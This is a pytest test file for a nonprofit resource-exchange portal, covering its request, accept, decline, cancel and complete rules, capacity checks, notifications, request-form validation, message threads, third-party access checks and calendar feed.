"""Exchanges: the state machine and capacity check as plain functions (with explicit `today`),
notifications and mail, and the pages — request form, lists, thread, calendar feed, ledger."""
import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal

import pytest
from babel.dates import format_date as babel_format_date
from babel.numbers import format_currency
from flask_babel import gettext
from icalendar import Calendar
from sqlalchemy import delete, func, select

from portal.accounts.models import REPRESENTATIVE
from portal.audit.models import AuditEvent
from portal.dates import format_day
from portal.errors import NotAllowed, RuleViolation
from portal.exchanges import services
from portal.exchanges.models import (ACCEPTED, CANCELLED, COMPLETED, DECLINED, REQUESTED, WITHDRAWN,
                                     CalendarFeed, ConditionRecord, Exchange, ExchangeMessage)
from portal.extensions import db
from portal.mail.models import OutboxMessage
from portal.notifications.models import Notification
from portal.orgs import services as orgs
from portal.resources import services as catalogue

from .factories import make_org, make_resource, make_user, request_exchange, small_jpeg
from .helpers import client_for, outbox

# "Today" for the rules, chosen explicitly: the period is days 10–11 after it.
DAY0 = date(2031, 3, 3)
START = DAY0 + timedelta(days=10)
END = START + timedelta(days=1)

STATES = (REQUESTED, ACCEPTED, DECLINED, WITHDRAWN, COMPLETED, CANCELLED)
ACTIONS = ("accept", "decline", "withdraw", "cancel", "complete")
LEGAL = {
    (REQUESTED, "accept"): ACCEPTED,
    (REQUESTED, "decline"): DECLINED,
    (REQUESTED, "withdraw"): WITHDRAWN,
    (ACCEPTED, "cancel"): CANCELLED,
    (ACCEPTED, "complete"): COMPLETED,
}
AUDIT_ACTION = {
    "accept": "exchange.accepted", "decline": "exchange.declined", "withdraw": "exchange.withdrawn",
    "cancel": "exchange.cancelled", "complete": "exchange.completed", "message": "exchange.message",
    "condition": "exchange.condition",
}
# Who does each action when it is legal (any person of the right side may act).
LEGAL_ACTOR = {"accept": "representative", "decline": "member", "withdraw": "other_member",
               "cancel": "other_representative", "complete": "representative",
               "message": "other_member", "condition": "representative"}


def page(response) -> str:
    return response.get_data(as_text=True)


def count(model, *where) -> int:
    return db.session.scalar(select(func.count()).select_from(model).where(*where))


def audit_count(action: str, exchange_id: int) -> int:
    return count(AuditEvent, AuditEvent.action == action, AuditEvent.object_type == "Exchange",
                 AuditEvent.object_id == exchange_id)


def snapshot(exchange_id: int):
    """What the database holds for the exchange (a Core query: flushes, then reads)."""
    return db.session.execute(
        select(Exchange.state, Exchange.reason, Exchange.decided_at, Exchange.decided_by_id, Exchange.completed_at,
               Exchange.completed_by_id, Exchange.value_units, Exchange.value_eur, Exchange.feedback,
               Exchange.starts_on, Exchange.ends_on, Exchange.quantity).where(Exchange.id == exchange_id)
    ).one()


def side_effects(exchange_id: int) -> tuple:
    return (count(Notification), count(OutboxMessage), count(AuditEvent),
            count(ExchangeMessage, ExchangeMessage.exchange_id == exchange_id),
            count(ConditionRecord, ConditionRecord.exchange_id == exchange_id))


def iso(day: date) -> str:
    return day.isoformat()


def en_date(day: date) -> str:
    return babel_format_date(day, format="d MMM y", locale="en")  # day first: "1 Dec 2026"


def flashes(html: str, category: str) -> list[str]:
    return [m.strip() for m in re.findall(rf'<div class="flash {category}"[^>]*>(.*?)</div>', html, re.S)]


def section(html: str, testid: str) -> str:
    match = re.search(rf'<(section|table)[^>]*data-testid="{testid}"[^>]*>(.*?)</\1>', html, re.S)
    assert match, f"no {testid} in the page"
    return match.group(2)


def row_of(html: str, exchange_id: int) -> str:
    rows = [r for r in re.findall(r"<tr>(.*?)</tr>", html, re.S) if f'href="/exchanges/{exchange_id}"' in r]
    assert len(rows) == 1, f"exchange #{exchange_id}: {len(rows)} rows"
    return rows[0]


# ---------------------------------------------------------------- fixtures and helpers

@pytest.fixture
def hall(world):
    """A fresh material resource of org B: 40 places, 80 EUR a day, with no exchanges yet."""
    resource = make_resource(world.representative, title="Semināru zāle “Ezers”", quantity=40,
                             value_eur=Decimal("80"), value_unit="day")
    db.session.commit()
    return resource


@pytest.fixture
def outsider(world):
    """The representative of a third active organization, party to nothing."""
    org = make_org("Daugavas krasts")
    person = make_user(org, REPRESENTATIVE, email="outsider@example.org", name="Oskars Ārējais")
    db.session.commit()
    return person


def person(world, who, outsider=None):
    return outsider if who == "outsider" else getattr(world, who)


def new_request(world, resource, requester=None, starts_on=START, ends_on=END, quantity=5, hours=None,
                message="Labdien! Vai zāle būs brīva?", today=DAY0) -> Exchange:
    return services.request_exchange(requester or world.other_member, resource, starts_on=starts_on, ends_on=ends_on,
                                     quantity=quantity, hours=hours, purpose="Valdes seminārs", message=message,
                                     today=today)


def in_state(world, resource, state, quantity=5) -> Exchange:
    """An exchange of org C for `resource` (days START–END), brought into `state` by the rules themselves."""
    exchange = new_request(world, resource, quantity=quantity)
    if state in (ACCEPTED, COMPLETED, CANCELLED):
        services.accept(world.representative, exchange, today=DAY0)
    if state == DECLINED:
        services.decline(world.representative, exchange, "Zāle tajās dienās aizņemta")
    if state == WITHDRAWN:
        services.withdraw(world.other_representative, exchange)
    if state == COMPLETED:
        services.complete(world.other_member, exchange, value_units=Decimal("2"), value_eur=Decimal("160.00"),
                          feedback="Paldies!", today=END)
    if state == CANCELLED:
        services.cancel(world.representative, exchange, "Zālē plīsis cauruļvads", today=DAY0)
    db.session.commit()
    assert exchange.state == state
    return exchange


def perform(action, actor, exchange, *, today=None):
    if action == "accept":
        services.accept(actor, exchange, today=today or DAY0)
    elif action == "decline":
        services.decline(actor, exchange, "Zāle tajās dienās remontā")
    elif action == "withdraw":
        services.withdraw(actor, exchange)
    elif action == "cancel":
        services.cancel(actor, exchange, "Pasākums pārcelts", today=today or DAY0)
    elif action == "complete":
        services.complete(actor, exchange, value_units=Decimal("2"), value_eur=Decimal("150.00"),
                          feedback="Viss noritēja labi.", today=today or END)
    elif action == "message":
        services.post_message(actor, exchange, "Labdien! Kā iet ar sagatavošanos?")
    elif action == "condition":
        services.record_condition(actor, exchange, "handover", "Visi 40 krēsli kārtībā")
    else:
        raise AssertionError(action)


def assert_refused_without_trace(error_type, action, actor, exchange, **kwargs):
    """The action raises `error_type`, and neither the exchange nor anything around it changes."""
    before, effects = snapshot(exchange.id), side_effects(exchange.id)
    with pytest.raises(error_type) as refused:
        perform(action, actor, exchange, **kwargs)
    assert snapshot(exchange.id) == before  # nothing written, even before the view's rollback
    assert side_effects(exchange.id) == effects
    db.session.rollback()
    assert snapshot(exchange.id) == before
    return refused.value


# ---------------------------------------------------------------- the state machine

@pytest.mark.parametrize("state", STATES)
@pytest.mark.parametrize("action", ACTIONS)
def test_every_state_and_action(world, hall, state, action):
    exchange = in_state(world, hall, state)
    actor = getattr(world, LEGAL_ACTOR[action])
    audit_before = audit_count(AUDIT_ACTION[action], exchange.id)
    if (state, action) in LEGAL:
        perform(action, actor, exchange)
        db.session.commit()
        after = snapshot(exchange.id)
        assert after.state == LEGAL[(state, action)]
        assert audit_count(AUDIT_ACTION[action], exchange.id) == audit_before + 1
        if action in ("accept", "decline", "withdraw"):
            assert after.decided_by_id == actor.id and after.decided_at is not None
        if action in ("decline", "cancel"):
            assert after.reason  # the reason is kept
        if action == "complete":
            assert after.completed_by_id == actor.id and after.value_eur == Decimal("150.00")
            assert after.feedback == "Viss noritēja labi."
    else:
        refused = assert_refused_without_trace(RuleViolation, action, actor, exchange)
        assert str(refused.message)
        assert audit_count(AUDIT_ACTION[action], exchange.id) == audit_before


WRONG_PEOPLE = [
    # (action, state it would be legal in, who tries)
    *[(a, REQUESTED, who) for a in ("accept", "decline")
      for who in ("other_member", "other_representative", "outsider", "coordinator")],
    *[("withdraw", REQUESTED, who) for who in ("representative", "member", "outsider", "coordinator")],
    *[(a, ACCEPTED, who) for a in ("cancel", "complete", "message", "condition")
      for who in ("outsider", "coordinator")],
    ("message", REQUESTED, "outsider"),
]


@pytest.mark.parametrize("action,state,who", WRONG_PEOPLE)
def test_the_wrong_org_or_side_is_not_allowed(world, hall, outsider, action, state, who):
    exchange = in_state(world, hall, state)
    assert_refused_without_trace(NotAllowed, action, person(world, who, outsider), exchange)


SUSPENDED_CASES = [
    # (action, state it would be legal in, the person of the suspended org who tries)
    ("accept", REQUESTED, "representative"),
    ("decline", REQUESTED, "member"),
    ("withdraw", REQUESTED, "other_member"),
    ("cancel", ACCEPTED, "representative"),
    ("cancel", ACCEPTED, "other_representative"),
    ("complete", ACCEPTED, "member"),
    ("complete", ACCEPTED, "other_member"),
    ("message", REQUESTED, "representative"),
    ("message", ACCEPTED, "other_member"),
    ("condition", ACCEPTED, "other_representative"),
]


@pytest.mark.parametrize("action,state,who", SUSPENDED_CASES)
def test_a_suspended_org_can_do_nothing(world, hall, action, state, who):
    exchange = in_state(world, hall, state)
    actor = getattr(world, who)
    orgs.suspend(world.coordinator, actor.org, "Nav iesniegts gada pārskats")
    db.session.commit()
    assert_refused_without_trace(NotAllowed, action, actor, exchange)


def test_a_suspended_org_cannot_request(world, hall):
    orgs.suspend(world.coordinator, world.other_org, "Nav iesniegts gada pārskats")
    db.session.commit()
    before = count(Exchange)
    with pytest.raises(NotAllowed):
        new_request(world, hall)
    assert count(Exchange) == before


# ---------------------------------------------------------------- requesting

@pytest.fixture
def lecture(world):
    """An intellectual resource of org B, paid by the hour."""
    resource = make_resource(world.representative, kind="intellectual", category="training", handover="",
                             format="in_person", title="Darbnīca projektu rakstīšanā", quantity=25, unit="dalībnieki",
                             value_eur=Decimal("40"), value_unit="hour")
    db.session.commit()
    return resource


@pytest.mark.parametrize("changes,field", [
    ({"starts_on": DAY0 - timedelta(days=1), "ends_on": DAY0}, "starts_on"),
    ({"starts_on": START, "ends_on": START - timedelta(days=1)}, "ends_on"),
    ({"starts_on": START, "ends_on": START + timedelta(days=366)}, "ends_on"),
    ({"quantity": 0}, "quantity"),
    ({"quantity": -3}, "quantity"),
    ({"quantity": 41}, "quantity"),
], ids=["past-start", "end-before-start", "longer-than-a-year", "quantity-0", "quantity-negative", "quantity-41"])
def test_a_bad_request_is_refused_with_its_field(world, hall, changes, field):
    before = (count(Exchange), count(AuditEvent), count(Notification), count(OutboxMessage))
    with pytest.raises(RuleViolation) as refused:
        new_request(world, hall, **changes)
    assert refused.value.field == field and str(refused.value.message)
    assert (count(Exchange), count(AuditEvent), count(Notification), count(OutboxMessage)) == before


@pytest.mark.parametrize("hours", [None, Decimal("0")])
def test_an_intellectual_resource_needs_hours(world, lecture, hours):
    before = count(Exchange)
    with pytest.raises(RuleViolation) as refused:
        new_request(world, lecture, quantity=1, hours=hours)
    assert refused.value.field == "hours"
    assert count(Exchange) == before
    exchange = new_request(world, lecture, quantity=1, hours=Decimal("4"))
    assert exchange.hours == Decimal("4") and exchange.state == REQUESTED


def test_material_requests_ignore_hours_and_the_limits_are_inclusive(world, hall):
    exchange = new_request(world, hall, starts_on=DAY0, ends_on=DAY0, quantity=40, hours=Decimal("3"))
    assert exchange.state == REQUESTED and exchange.hours is None and exchange.quantity == 40
    assert exchange.requester_org_id == world.other_org.id and exchange.owner_org_id == world.org.id
    assert [m.body for m in exchange.messages] == ["Labdien! Vai zāle būs brīva?"]
    assert audit_count("exchange.requested", exchange.id) == 1


@pytest.mark.parametrize("who,resource_state", [
    ("member", "active"), ("representative", "active"),  # its own organization's resource
    ("other_member", "paused"), ("other_member", "archived"),
])
def test_own_paused_or_archived_resources_cannot_be_requested(world, hall, who, resource_state):
    if resource_state != "active":
        catalogue.change_state(world.representative, hall, resource_state)
        db.session.commit()
    before = (count(Exchange), count(Notification), count(OutboxMessage))
    with pytest.raises(NotAllowed):
        new_request(world, hall, requester=getattr(world, who))
    assert (count(Exchange), count(Notification), count(OutboxMessage)) == before


# ---------------------------------------------------------------- timing

def test_cancel_only_before_the_start(world, hall):
    exchange = in_state(world, hall, ACCEPTED)
    for today in (START, START + timedelta(days=1), END + timedelta(days=5)):
        refused = assert_refused_without_trace(RuleViolation, "cancel", world.other_member, exchange, today=today)
        assert str(refused.message) == gettext("An exchange can be cancelled only before it starts.")
    perform("cancel", world.other_member, exchange, today=START - timedelta(days=1))
    db.session.commit()
    assert snapshot(exchange.id).state == CANCELLED


def test_cancel_needs_a_reason(world, hall):
    exchange = in_state(world, hall, ACCEPTED)
    with pytest.raises(RuleViolation) as refused:
        services.cancel(world.representative, exchange, "   ", today=DAY0)
    assert refused.value.field == "reason"
    with pytest.raises(RuleViolation) as refused:
        services.decline(world.representative, in_state(world, hall, REQUESTED), "")
    assert refused.value.field == "reason"


def test_complete_only_on_or_after_the_last_day(world, hall):
    exchange = in_state(world, hall, ACCEPTED)
    for today in (DAY0, START, END - timedelta(days=1)):
        refused = assert_refused_without_trace(RuleViolation, "complete", world.representative, exchange, today=today)
        assert format_day(END, "medium") in str(refused.message)
    perform("complete", world.representative, exchange, today=END)
    db.session.commit()
    assert snapshot(exchange.id).state == COMPLETED


def test_accepting_after_the_period_or_for_a_paused_resource_is_refused(world, hall):
    exchange = in_state(world, hall, REQUESTED)
    assert_refused_without_trace(RuleViolation, "accept", world.representative, exchange,
                                 today=END + timedelta(days=1))
    catalogue.change_state(world.representative, hall, "paused")
    db.session.commit()
    assert_refused_without_trace(RuleViolation, "accept", world.representative, exchange)
    catalogue.change_state(world.representative, hall, "active")
    perform("accept", world.representative, exchange, today=END)  # on its last day it still can be
    assert snapshot(exchange.id).state == ACCEPTED


# ---------------------------------------------------------------- value

def test_default_value_by_hours_days_and_units(world, hall, lecture):
    by_hours = new_request(world, lecture, quantity=3, hours=Decimal("4.5"))
    assert services.default_value(by_hours) == (Decimal("4.5"), Decimal("180.00"))

    by_days = new_request(world, hall, starts_on=START, ends_on=START + timedelta(days=2), quantity=12)
    assert services.default_value(by_days) == (Decimal("3"), Decimal("240.00"))

    bus = make_resource(world.representative, title="Mikroautobuss ar šoferi", category="vehicle", quantity=5,
                        unit="km", value_eur=Decimal("0.35"), value_unit="unit")
    by_units = new_request(world, bus, quantity=3)
    assert services.default_value(by_units) == (Decimal("3"), Decimal("1.05"))

    no_rate = new_request(world, world.resource, quantity=2)  # world.resource has no in-kind rate
    assert world.resource.value_eur is None
    assert services.default_value(no_rate)[1] is None


def test_completion_stores_the_edited_value_and_feedback(world, hall):
    exchange = in_state(world, hall, ACCEPTED)
    assert services.default_value(exchange) == (Decimal("2"), Decimal("160.00"))
    services.complete(world.other_member, exchange, value_units=Decimal("1.5"), value_eur=Decimal("95.50"),
                      feedback="  Zāle lieliska, kafija auksta.  ", today=END + timedelta(days=3))
    db.session.commit()
    db.session.expire_all()
    stored = db.session.get(Exchange, exchange.id)
    assert (stored.state, stored.value_units, stored.value_eur, stored.feedback, stored.completed_by_id) == (
        COMPLETED, Decimal("1.50"), Decimal("95.50"), "Zāle lieliska, kafija auksta.", world.other_member.id)


def test_completion_refuses_a_negative_value(world, hall):
    exchange = in_state(world, hall, ACCEPTED)
    with pytest.raises(RuleViolation) as refused:
        services.complete(world.representative, exchange, value_units=None, value_eur=Decimal("-1"), today=END)
    assert refused.value.field == "value_eur"
    db.session.rollback()
    assert snapshot(exchange.id).state == ACCEPTED


# ---------------------------------------------------------------- capacity

def test_capacity_clash_is_refused_naming_the_day_the_exchange_and_the_org(world, hall, outsider):
    d = lambda n: DAY0 + timedelta(days=n)  # noqa: E731
    # Requested while the days were still free (a request for taken days is refused before it is sent).
    thirty = new_request(world, hall, starts_on=d(10), ends_on=d(11), quantity=30)
    fifteen = new_request(world, hall, requester=outsider, starts_on=d(11), ends_on=d(12), quantity=15)
    ten = new_request(world, hall, requester=outsider, starts_on=d(11), ends_on=d(12), quantity=10)
    forty = new_request(world, hall, requester=outsider, starts_on=d(12), ends_on=d(13), quantity=40)
    services.accept(world.representative, thirty, today=DAY0)
    db.session.commit()

    assert services.capacity_clash(fifteen)[:2] == (d(11), 30)
    refused = assert_refused_without_trace(RuleViolation, "accept", world.representative, fifteen)
    message = str(refused.message)
    assert format_day(d(11), "medium") in message, message
    assert f"#{thirty.id}" in message and "Sukrums" in message, message
    assert format_day(d(10), "medium") not in message.split("(")[0]  # the day named is the first clashing one
    assert snapshot(fifteen.id).state == REQUESTED

    services.accept(world.representative, ten, today=DAY0)  # 30 + 10 = 40 on day 11
    db.session.commit()
    assert snapshot(ten.id).state == ACCEPTED
    # Day 12 now holds the 10: 40 more do not fit any longer; on days 13–14 all 40 do.
    assert services.capacity_clash(forty)[0] == d(12)
    later = new_request(world, hall, requester=outsider, starts_on=d(13), ends_on=d(14), quantity=40)
    services.accept(world.representative, later, today=DAY0)
    db.session.commit()
    assert snapshot(later.id).state == ACCEPTED


def test_a_non_overlapping_request_for_everything_is_accepted(world, hall, outsider):
    thirty = new_request(world, hall, starts_on=START, ends_on=END, quantity=30)
    services.accept(world.representative, thirty, today=DAY0)
    everything = new_request(world, hall, requester=outsider, starts_on=END + timedelta(days=1),
                             ends_on=END + timedelta(days=2), quantity=40)
    services.accept(world.representative, everything, today=DAY0)
    db.session.commit()
    assert snapshot(everything.id).state == ACCEPTED


def test_a_cancelled_exchange_frees_its_places(world, hall, outsider):
    in_state(world, hall, CANCELLED, quantity=40)
    everything = new_request(world, hall, requester=outsider, quantity=40)
    services.accept(world.representative, everything, today=DAY0)
    assert snapshot(everything.id).state == ACCEPTED


def test_intellectual_resources_are_never_capacity_checked(world, outsider):
    advice = make_resource(world.representative, kind="intellectual", category="expertise", handover="",
                           format="online", title="Grāmatvedības konsultācija", quantity=1, unit="konsultants")
    first = new_request(world, advice, quantity=1, hours=Decimal("2"))
    second = new_request(world, advice, requester=outsider, quantity=1, hours=Decimal("3"))
    services.accept(world.representative, first, today=DAY0)
    services.accept(world.representative, second, today=DAY0)
    db.session.commit()
    assert snapshot(first.id).state == snapshot(second.id).state == ACCEPTED


# ---------------------------------------------------------------- notifications and mail

EVENTS = [
    # (event, state before, actor)
    ("requested", None, "other_member"),
    ("accepted", REQUESTED, "representative"),
    ("declined", REQUESTED, "member"),
    ("withdrawn", REQUESTED, "other_representative"),
    ("cancelled", ACCEPTED, "representative"),
    ("cancelled", ACCEPTED, "other_member"),
    ("completed", ACCEPTED, "other_member"),
    ("completed", ACCEPTED, "member"),
    ("message", REQUESTED, "member"),
    ("message", ACCEPTED, "other_representative"),
    ("condition", ACCEPTED, "other_member"),
]


@pytest.mark.parametrize("event,state,who", EVENTS)
def test_every_transition_tells_the_other_side(world, hall, event, state, who):
    exchange = in_state(world, hall, state) if state else None
    db.session.execute(delete(OutboxMessage))
    db.session.execute(delete(Notification))
    db.session.commit()
    actor = getattr(world, who)
    action = {"requested": None, "accepted": "accept", "declined": "decline", "withdrawn": "withdraw",
              "cancelled": "cancel", "completed": "complete", "message": "message", "condition": "condition"}[event]
    if action is None:
        exchange = new_request(world, hall, requester=actor)
    else:
        perform(action, actor, exchange)
    db.session.commit()

    own_org = actor.org
    other_org = world.org if own_org.id == world.other_org.id else world.other_org
    notes = db.session.scalars(select(Notification)).all()
    assert {n.user_id for n in notes} == {p.id for p in other_org.people if p.is_active}
    assert len(notes) == len({n.user_id for n in notes})  # one each
    assert {n.kind for n in notes} == {f"exchange_{event}"}
    assert {n.link for n in notes} == {f"/exchanges/{exchange.id}"}

    recipients = [m.recipient for m in outbox()]
    assert recipients, "no e-mail to the other side"
    other_emails = {p.email for p in other_org.people}
    assert set(recipients) <= other_emails
    assert not set(recipients) & {p.email for p in own_org.people}
    assert {p.email for p in other_org.people if p.is_representative} <= set(recipients)
    assert len(recipients) == len(set(recipients))
    if event == "requested":
        assert world.representative.email in recipients  # the resource's publisher
    elif own_org.id == world.org.id:
        assert world.other_member.email in recipients  # the person who asked
    assert all(hall.title in m.subject for m in outbox())


def test_a_refused_transition_tells_nobody(world, hall):
    exchange = in_state(world, hall, DECLINED)
    db.session.execute(delete(OutboxMessage))
    db.session.execute(delete(Notification))
    db.session.commit()
    with pytest.raises(RuleViolation):
        services.accept(world.representative, exchange, today=DAY0)
    db.session.rollback()
    assert count(Notification) == 0 and outbox() == []


# ---------------------------------------------------------------- the request form

@pytest.fixture
def requester(app, world):
    return client_for(app, world.other_member)


def request_form(**changes) -> dict:
    today = date.today()
    data = {"starts_on": iso(today + timedelta(days=60)), "ends_on": iso(today + timedelta(days=61)),
            "quantity": "12", "purpose": "Valdes seminārs Cirmā", "message": "Vai zāle būs brīva? Ņemsim līdzi kafiju."}
    data.update(changes)
    return data


@pytest.mark.parametrize("changes,field,text", [
    ({"starts_on": iso(date.today() - timedelta(days=1))}, "starts_on", "The period cannot start in the past."),
    ({"ends_on": iso(date.today() + timedelta(days=59))}, "ends_on", "The period must end on or after its first day."),
    ({"purpose": ""}, "purpose", None),
    ({"purpose": "   "}, "purpose", None),
    ({"quantity": "41"}, "quantity", "Ask for 1 to 40."),
    ({"quantity": "0"}, "quantity", "Enter a whole number, 1 or more."),
    ({"starts_on": ""}, "starts_on", "Enter a date."),
], ids=["past-date", "end-before-start", "no-purpose", "blank-purpose", "quantity-too-big", "quantity-0", "no-date"])
def test_bad_request_input_is_marked_next_to_its_field_and_the_typing_kept(world, requester, changes, field, text):
    before = (count(Exchange), count(ExchangeMessage), count(Notification), count(OutboxMessage))
    data = request_form(**changes)
    response = requester.post(f"/resources/{world.resource.id}/request?lang=en", data=data)
    assert response.status_code == 200
    html = page(response)
    assert re.search(rf'<div class="field has-error">\s*<label for="{field}"', html), html
    errors = re.findall(r'<p class="error" data-field="([a-z_]+)">(.*?)</p>', html)
    assert [f for f, _ in errors] == [field]
    if text:
        assert errors[0][1] == text
    assert "There is a problem" in html
    for name in ("starts_on", "ends_on", "quantity", "purpose"):
        if name != field and data[name].strip():
            assert f'value="{data[name]}"' in html, name
    assert "Vai zāle būs brīva? Ņemsim līdzi kafiju." in html
    assert (count(Exchange), count(ExchangeMessage), count(Notification), count(OutboxMessage)) == before


def test_a_good_request_is_stored_and_opens_its_page(world, requester):
    response = requester.post(f"/resources/{world.resource.id}/request?lang=en", data=request_form())
    assert response.status_code == 302
    exchange = db.session.scalars(select(Exchange).order_by(Exchange.id.desc())).first()
    assert response.headers["Location"] == f"/exchanges/{exchange.id}"
    assert (exchange.state, exchange.quantity, exchange.purpose, exchange.requested_by_id) == (
        REQUESTED, 12, "Valdes seminārs Cirmā", world.other_member.id)
    assert exchange.starts_on == date.today() + timedelta(days=60) and exchange.days == 2
    html = page(requester.get(response.headers["Location"]))
    assert "Your request has been sent to Baltā māja." in html
    assert "Vai zāle būs brīva? Ņemsim līdzi kafiju." in html
    assert 'data-testid="exchange-state">Requested<' in html


def test_own_paused_and_archived_resources_have_no_request_form(app, world, requester):
    before = count(Exchange)
    own = client_for(app, world.member).post(f"/resources/{world.resource.id}/request", data=request_form())
    assert own.status_code == 302 and own.headers["Location"] == f"/resources/{world.resource.id}"
    assert requester.get(f"/resources/{world.paused_resource.id}/request").status_code == 404
    assert requester.post(f"/resources/{world.paused_resource.id}/request", data=request_form()).status_code == 404
    catalogue.change_state(world.representative, world.resource, "archived")
    db.session.commit()
    assert requester.post(f"/resources/{world.resource.id}/request", data=request_form()).status_code == 404
    assert count(Exchange) == before


# ---------------------------------------------------------------- lists and the thread

def test_exchanges_lists_incoming_for_the_owner_and_outgoing_for_the_requester(app, world, outsider):
    expected = [(world.exchange, "Requested"), (world.accepted_exchange, "Accepted")]
    for user, mine, other_name in ((world.representative, "incoming", "Sukrums"),
                                   (world.member, "incoming", "Sukrums"),
                                   (world.other_member, "outgoing", "Baltā māja"),
                                   (world.other_representative, "outgoing", "Baltā māja")):
        html = page(client_for(app, user).get("/exchanges?lang=en"))
        listed = section(html, mine)
        for exchange, label in expected:
            row = row_of(listed, exchange.id)
            assert other_name in row and label in row and world.resource.title in row
            shown = en_date(exchange.starts_on) if exchange.starts_on == exchange.ends_on else \
            f"{en_date(exchange.starts_on)} – {en_date(exchange.ends_on)}"
            assert shown in cells(row)
        empty = section(html, "outgoing" if mine == "incoming" else "incoming")
        assert "/exchanges/" not in empty
    third = page(client_for(app, outsider).get("/exchanges?lang=en"))
    assert f'href="/exchanges/{world.exchange.id}"' not in third
    assert f'href="/exchanges/{world.accepted_exchange.id}"' not in third


def test_the_detail_page_shows_the_thread_of_both_sides(app, world):
    requester, owner = client_for(app, world.other_member), client_for(app, world.representative)
    url = f"/exchanges/{world.exchange.id}"
    assert requester.post(f"{url}/messages", data={"body": "Vai varam atbraukt stundu agrāk?"}).status_code == 302
    html = page(owner.get(url))
    assert "Vai varam atbraukt stundu agrāk?" in html and world.other_member.name in html
    assert owner.post(f"{url}/messages", data={"body": "Jā, atslēgas būs pie dežuranta."}).status_code == 302
    html = page(requester.get(url))
    assert html.index("Vai varam atbraukt stundu agrāk?") < html.index("Jā, atslēgas būs pie dežuranta.")
    empty = owner.post(f"{url}/messages?lang=en", data={"body": "  "})
    assert empty.status_code == 422 and '<p class="error" data-field="body">Write a message.</p>' in page(empty)
    assert count(ExchangeMessage, ExchangeMessage.exchange_id == world.exchange.id) == 2


def test_decisions_through_the_pages(app, world):
    owner, requester = client_for(app, world.representative), client_for(app, world.other_member)
    url = f"/exchanges/{world.exchange.id}"
    no_reason = owner.post(f"{url}/decline?lang=en", data={"reason": ""})
    assert no_reason.status_code == 422  # the page again, the message at the field
    assert '<p class="error" data-field="reason">Give a reason.</p>' in page(no_reason)
    assert snapshot(world.exchange.id).state == REQUESTED
    assert requester.post(f"{url}/accept").status_code == 403  # the requester sees it but may not decide
    assert owner.post(f"{url}/withdraw").status_code == 403
    accepted = owner.post(f"{url}/accept?lang=en")
    assert "The request is accepted." in page(owner.get(accepted.headers["Location"]))
    again = requester.post(f"{url}/withdraw?lang=en")
    assert "it is now “Accepted”" in page(requester.get(again.headers["Location"]))
    cancelled = requester.post(f"{url}/cancel?lang=en", data={"reason": "Seminārs pārcelts uz pavasari"})
    assert "The exchange is cancelled." in page(requester.get(cancelled.headers["Location"]))
    assert snapshot(world.exchange.id)[:2] == (CANCELLED, "Seminārs pārcelts uz pavasari")


# ---------------------------------------------------------------- third organizations

def crawl(client, start_urls, limit=150) -> dict[str, str]:
    """Every page reachable by links from `start_urls` (same site, GET): url → text."""
    seen, queue, pages = set(), list(start_urls), {}
    while queue and len(pages) < limit:
        url = queue.pop(0)
        if url in seen:
            continue
        seen.add(url)
        response = client.get(url)
        text = response.get_data().decode("utf-8", "replace")  # photos too
        pages[url] = text
        if response.mimetype == "text/html":
            for href in re.findall(r'href="([^"]+)"', text):
                href = href.replace("&amp;", "&")
                if href.startswith("/") and not href.startswith(("/static/", "//")) and href not in seen:
                    queue.append(href)
    return pages


def test_the_thread_is_invisible_to_third_orgs(app, world, outsider):
    canary_requester = "Kanārijputniņš-7d1f: mūsu grāmatvede būs slima"
    canary_owner = "Kanārijputniņš-93ab: atslēgas zem paklāja"
    url = f"/exchanges/{world.accepted_exchange.id}"
    requester, owner = client_for(app, world.other_member), client_for(app, world.representative)
    assert requester.post(f"{url}/messages", data={"body": canary_requester}).status_code == 302
    assert owner.post(f"{url}/messages", data={"body": canary_owner}).status_code == 302
    assert canary_requester in page(owner.get(url)) and canary_owner in page(requester.get(url))
    condition = world.accepted_exchange.conditions[0]
    photo_url = f"{url}/conditions/{condition.id}.jpg"
    assert owner.get(photo_url).status_code == 200

    messages_before = count(ExchangeMessage)
    for third in (outsider, world.coordinator):
        c = client_for(app, third)
        for exchange in (world.exchange, world.accepted_exchange):
            assert c.get(f"/exchanges/{exchange.id}").status_code == 404
            assert c.post(f"/exchanges/{exchange.id}/messages", data={"body": "Ielaužos"}).status_code == 404
            assert c.post(f"/exchanges/{exchange.id}/accept").status_code == 404
        assert c.get(photo_url).status_code == 404
        assert c.post(f"{url}/conditions", data={"stage": "return", "note": "Ielaužos"}).status_code == 404
        start = ["/", "/exchanges", "/calendar", "/ledger", "/ledger.csv", "/notifications", "/account", "/resources",
                 f"/resources/{world.resource.id}", f"/orgs/{world.org.id}", f"/orgs/{world.other_org.id}", url]
        if third.is_coordinator:
            start.append("/coordination/audit")
        pages = crawl(c, start)
        assert len(pages) > 10
        for seen_url, text in pages.items():
            assert canary_requester not in text and canary_owner not in text, seen_url
            assert "Kanārijputniņš" not in text, seen_url
    assert count(ExchangeMessage) == messages_before


# ---------------------------------------------------------------- calendar

def ical_events(response) -> dict[str, object]:
    assert response.status_code == 200 and response.mimetype == "text/calendar"
    calendar = Calendar.from_ical(response.data)
    return {str(event["uid"]): event for event in calendar.walk("VEVENT")}


def test_the_ical_feed_lists_the_orgs_accepted_exchanges_both_ways(app, world, outsider):
    sound = make_resource(world.other_representative, title="Skaņas aparatūra āra pasākumiem", category="equipment",
                          quantity=1, unit="komplekts", handover="delivery")
    outgoing = request_exchange(world.member, sound, start_in_days=20, days=3)
    services.accept(world.other_representative, outgoing)
    unrelated = request_exchange(outsider, sound, start_in_days=40)
    services.accept(world.other_representative, unrelated)
    declined = request_exchange(world.member, sound, start_in_days=60)
    services.decline(world.other_representative, declined, "Aizņemts")
    db.session.commit()

    anyone = app.test_client()
    events = ical_events(anyone.get(f"/calendar/{world.feed_token}.ics"))
    incoming = world.accepted_exchange
    assert set(events) == {f"exchange-{incoming.id}@portal", f"exchange-{outgoing.id}@portal"}
    for exchange in (incoming, outgoing):
        event = events[f"exchange-{exchange.id}@portal"]
        assert event.decoded("dtstart") == exchange.starts_on
        assert event.decoded("dtend") == exchange.ends_on + timedelta(days=1)  # exclusive end
        assert "Sukrums" in str(event["summary"]) and exchange.resource.title in str(event["summary"])
    assert events[f"exchange-{outgoing.id}@portal"].decoded("dtend") - \
        events[f"exchange-{outgoing.id}@portal"].decoded("dtstart") == timedelta(days=3)

    # In the portal, both organizations see the accepted exchange in their calendars.
    for user in (world.representative, world.other_member):
        html = page(client_for(app, user).get("/calendar?lang=en&view=list"))
        calendar = section(html, "calendar")
        assert f'href="/exchanges/{incoming.id}"' in calendar
        assert f'href="/exchanges/{world.exchange.id}"' not in calendar  # still only requested
